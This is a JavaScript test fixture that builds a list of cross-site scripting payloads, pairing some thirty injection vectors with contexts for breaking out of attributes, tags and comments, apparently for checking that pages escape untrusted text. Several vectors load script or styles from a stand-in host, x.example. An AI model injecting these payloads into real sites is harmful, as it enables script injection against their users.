// SPDX-License-Identifier: AGPL-3.0-or-later
// Texts that would run something if any page took them for markup: each vector in each context that it
// might have to break out of. What runs calls alert, or sets `globalThis.intruded`.

const VECTORS = [
  '<script>alert(1)</script>',
  '<script src=//x.example/x.js></script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="globalThis.intruded=1">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<math><mtext></mtext><script>alert(1)</script></math>',
  '<base href=//x.example/>',
  '<meta http-equiv=refresh content="0;url=//x.example">',
  '<link rel=stylesheet href=//x.example/x.css>',
  '<style>@import "//x.example/x.css";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<x onclick=alert(1) style=position:fixed;inset:0>x',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '＜script＞alert(1)＜/script＞',
  '%3Cscript%3Ealert(1)%3C/script%3E',
];
const CONTEXTS = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'>${vector}`,
  (vector) => `</title>${vector}`,
  (vector) => `</script>${vector}`,
  (vector) => `</style>${vector}`,
  (vector) => `</textarea>${vector}`,
  (vector) => `-->${vector}<!--`,
  (vector) => `]]>${vector}`,
  (vector) => `\\";${vector}//`,
  (vector) => `\\u0022>${vector}`,
  (vector) => `" autofocus onfocus=alert(1) x="${vector}`,
  (vector) => `' onmouseover=alert(1) x='${vector}`,
  (vector) => `</a></li></ul>${vector}`,
  (vector) => `\u202e${vector}`,
];

export const PAYLOADS = VECTORS.flatMap((vector) => CONTEXTS.map((context) => context(vector)));

/** The payloads packed into as few texts of at most `length` characters as they need. */
export function packed(length) {
  const texts = [''];
  for (const payload of PAYLOADS) {
    if (texts.at(-1).length + payload.length + 1 > length) texts.push('');
    texts[texts.length - 1] += `${payload} `;
  }
  return texts.map((text) => text.trim());
}
